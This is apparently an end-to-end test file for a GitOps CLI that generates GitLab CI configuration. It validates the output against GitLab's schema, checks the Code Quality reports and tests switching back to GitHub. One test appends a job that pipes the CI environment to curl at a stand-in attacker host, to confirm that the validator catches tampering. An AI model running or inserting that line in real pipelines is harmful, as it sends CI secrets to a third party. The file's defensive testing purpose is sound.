import { readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Ajv } from 'ajv';
import formats from 'ajv-formats';
import { expect } from 'chai';
import { parse } from 'yaml';
import { readTree } from '../../src/adapters/fs.js';
import { GITLAB_CI_IMAGE } from '../../src/generator/gitlab-ci.js';
import type { CodeQualityIssue } from '../../src/validator/printers/gitlab.js';
import { git, makeTempDir, removeTempDirs, runCli } from '../helpers/cli.js';
import { gitlabCiSchema } from '../helpers/gitlab-ci-schema.js';

// A repository moved to GitLab by recording gitProvider in cp-gitops.yaml (what init --gitlab records)
// and running `generate`: its .gitlab-ci.yml against GitLab's own CI schema, the jobs it runs, the
// Code Quality report, and the way back to GitHub.

const REPO_URL = 'https://gitlab.example.org/platform/kafka/p.git';
const GITLAB_PROVIDER = 'gitProvider:\n  type: gitlab\n  repository: platform/kafka/p\n';
const SECRET_PATH = 'overlays/dev/leaked-secret.yaml';
const SECRET = 'apiVersion: v1\nkind: Secret\nmetadata:\n  name: leaked\nstringData:\n  password: correct-horse-battery\n';

interface GitlabCi {
  workflow: { rules: { if: string }[] };
  default: { image: string; cache: { key: { files: string[] }; paths: string[] }; before_script: string[] };
  [job: string]: unknown;
}
interface Job {
  script: string[];
  artifacts?: { when?: string; reports?: { codequality?: string } };
}

/** GitLab's schema (test/helpers/gitlab-ci-schema.ts says where it comes from), compiled as GitLab's editor reads it: draft-07. */
function gitlabCiValidator() {
  const ajv = new Ajv({ strict: false, allErrors: true });
  // ajv-formats is CommonJS: under NodeNext its default import is module.exports, the plugin sits on .default.
  formats.default(ajv);
  return ajv.compile(gitlabCiSchema());
}

function setProvider(dir: string, provider: string): void {
  const path = join(dir, 'cp-gitops.yaml');
  const model = readFileSync(path, 'utf8').replace(/^gitProvider:\n(?: {2}.*\n)+/m, '');
  writeFileSync(path, model.replace(/^(repoURL: .*\n)/m, `$1${provider}`));
}

describe('GitLab CI in a generated repository (built bin)', function () {
  this.timeout(120_000);
  let dir: string;
  let initTree: Map<string, string>;
  let moved: { code: number; stdout: string; stderr: string };

  before(async function () {
    const work = makeTempDir('cp-gitops-e2e-gitlab-ci-');
    dir = join(work, 'platform');
    const init = await runCli(['init', dir, '--repo-url', REPO_URL], { cwd: work });
    expect(init.code, init.stderr).to.equal(0);
    initTree = readTree(dir);
    setProvider(dir, GITLAB_PROVIDER);
    moved = await runCli(['generate', dir]);
  });
  after(removeTempDirs);

  it('generate moves the repository to GitLab: .gitlab-ci.yml in, the GitHub workflow out through the record; validate, generate --check and docs --check pass', async function () {
    expect(moved.code, moved.stderr).to.equal(0);
    expect(moved.stdout).to.include('Deleted .github/workflows/validate.yaml').and.include('Created .gitlab-ci.yml').and.include('Updated README.md');
    const tree = readTree(dir);
    expect([...tree.keys()].filter((path) => path.startsWith('.github/'))).to.deep.equal([]);
    expect(tree.has('.gitlab-ci.yml')).to.equal(true);
    expect(tree.get('.gitignore')).to.include('\n.npm/\n').and.include('\ngl-code-quality-report.json\n');
    expect(tree.get('README.md')).to.include('## Merge requests on GitLab').and.include('GITLAB_TOKEN').and.include('Code Quality widget');
    // The record names the new file and no longer the old one.
    const record = [...tree].filter(([path]) => path.startsWith('.cp-gitops/generated/')).map(([, line]) => line).join('');
    expect(record).to.match(/ {2}\.gitlab-ci\.yml\n/).and.not.include('.github/workflows/validate.yaml');
    for (const args of [['validate', dir], ['generate', dir, '--check'], ['docs', dir, '--check']]) {
      const result = await runCli(args);
      expect(result.code, `${args.join(' ')}\n${result.stdout}\n${result.stderr}`).to.equal(0);
    }
  });

  it("the .gitlab-ci.yml is valid against GitLab's CI JSON schema, which does reject a broken one", function () {
    const validate = gitlabCiValidator();
    const ci = parse(readFileSync(join(dir, '.gitlab-ci.yml'), 'utf8')) as GitlabCi;
    expect(validate(ci), JSON.stringify(validate.errors, null, 2)).to.equal(true);
    // The schema looks: a misspelt keyword, a report that is not a path, an unknown workflow rule key.
    const broken = structuredClone(ci) as unknown as Record<string, Record<string, unknown>>;
    broken.drift = { scirpt: ['true'] };
    (broken.validate!.artifacts as { reports: { codequality: unknown } }).reports.codequality = 5;
    broken.workflow!.rules = [{ iff: 'x' }];
    expect(validate(broken)).to.equal(false);
    const paths = (validate.errors ?? []).map((error) => error.instancePath);
    expect(paths).to.include.members(['/drift', '/validate/artifacts/reports/codequality', '/workflow/rules/0']);
  });

  it('runs on merge requests and the default branch, on a pinned Node image, npm ci with its cache keyed on the lockfile, then validate, drift and docs as separate jobs of the pinned cp-gitops', function () {
    const ci = parse(readFileSync(join(dir, '.gitlab-ci.yml'), 'utf8')) as GitlabCi;
    expect(ci.workflow.rules).to.deep.equal([{ if: '$CI_PIPELINE_SOURCE == "merge_request_event"' }, { if: '$CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH' }]);
    expect(ci.default.image).to.equal(GITLAB_CI_IMAGE).and.match(/^node:24\.\d+\.\d+-/);
    expect(ci.default.cache).to.deep.equal({ key: { files: ['package-lock.json'] }, paths: ['.npm/'] });
    expect(ci.default.before_script).to.deep.equal(['npm ci --cache .npm --prefer-offline']);
    const jobs = Object.fromEntries(Object.entries(ci).filter(([key]) => !['workflow', 'default'].includes(key))) as Record<string, Job>;
    expect(Object.keys(jobs)).to.deep.equal(['validate', 'drift', 'docs']);
    expect(jobs.validate!.script.at(-1)).to.equal('npx --no-install cp-gitops validate --render --format gitlab --output gl-code-quality-report.json');
    expect(jobs.validate!.artifacts).to.deep.equal({ when: 'always', reports: { codequality: 'gl-code-quality-report.json' } });
    // Kustomize is checked against its published SHA-256 before it is unpacked.
    expect(jobs.validate!.script[0]).to.match(/sha256sum -c -\ntar -xzf/);
    expect(jobs.drift!.script).to.deep.equal(['npx --no-install cp-gitops generate --check']);
    expect(jobs.docs!.script).to.deep.equal(['npx --no-install cp-gitops docs --check']);
    const all = JSON.stringify(ci);
    expect(all).to.not.match(/npm install|npx cp-gitops@|npx (?!--no-install)/);
  });

  it('validate --format gitlab --output: the Code Quality report in the file, the text report on stdout, exit 1 on errors, the same fingerprints on every run', async function () {
    writeFileSync(join(dir, SECRET_PATH), SECRET);
    try {
      const first = await runCli(['validate', dir, '--format', 'gitlab', '--output', 'report.json'], { cwd: dir });
      expect(first.code).to.equal(1);
      expect(first.stdout).to.match(new RegExp(`^${SECRET_PATH}:5:1: error: policy/plaintext-secret: `, 'm'));
      const issues = JSON.parse(readFileSync(join(dir, 'report.json'), 'utf8')) as CodeQualityIssue[];
      const secret = issues.find((issue) => issue.check_name === 'policy/plaintext-secret')!;
      expect(secret.location).to.deep.equal({ path: SECRET_PATH, lines: { begin: 5 } });
      expect(secret.severity).to.equal('major');
      const again = await runCli(['validate', dir, '--format', 'gitlab'], { cwd: dir });
      expect(again.code).to.equal(1);
      expect(JSON.parse(again.stdout), 'stdout alone: the report, and a report file in the repository is no finding').to.deep.equal(issues);
    } finally {
      rmSync(join(dir, SECRET_PATH), { force: true });
      rmSync(join(dir, 'report.json'), { force: true });
    }
    const folder = await runCli(['validate', dir, '--format', 'gitlab', '--output', dir]);
    expect(folder.code).to.equal(2);
    expect(folder.stderr).to.include('is not a file path');
  });

  it('a hand edit of .gitlab-ci.yml is an error (it runs code with the CI variables), until generate restores it', async function () {
    const path = join(dir, '.gitlab-ci.yml');
    const generated = readFileSync(path, 'utf8');
    writeFileSync(path, `${generated}steal:\n  script:\n    - env | curl -d @- https://attacker.example\n`);
    const result = await runCli(['validate', dir]);
    expect(result.code).to.equal(1);
    // The finding points at the first line that differs from the generator's output: the first added line.
    const firstAdded = generated.split('\n').length;
    expect(result.stdout).to.match(new RegExp(`^\\.gitlab-ci\\.yml:${firstAdded}:1: error: policy/generated-hook-changed: `, 'm'));
    expect((await runCli(['generate', dir, '--force'])).code).to.equal(0);
    expect(readFileSync(path, 'utf8')).to.equal(generated);
  });

  it('back to GitHub: generate brings back the init tree byte for byte (cp-gitops.yaml aside)', async function () {
    setProvider(dir, '');
    const back = await runCli(['generate', dir]);
    expect(back.code, back.stderr).to.equal(0);
    expect(back.stdout).to.include('Deleted .gitlab-ci.yml').and.include('Created .github/workflows/validate.yaml');
    const tree = readTree(dir);
    const withoutModel = (files: Map<string, string>) => new Map([...files].filter(([path]) => path !== 'cp-gitops.yaml'));
    expect([...withoutModel(tree).keys()].sort()).to.deep.equal([...withoutModel(initTree).keys()].sort());
    for (const [path, content] of withoutModel(initTree)) expect(tree.get(path), path).to.equal(content);
    expect(git(['status', '--porcelain', '--', '.', ':!cp-gitops.yaml'], dir)).to.equal('');
  });
});
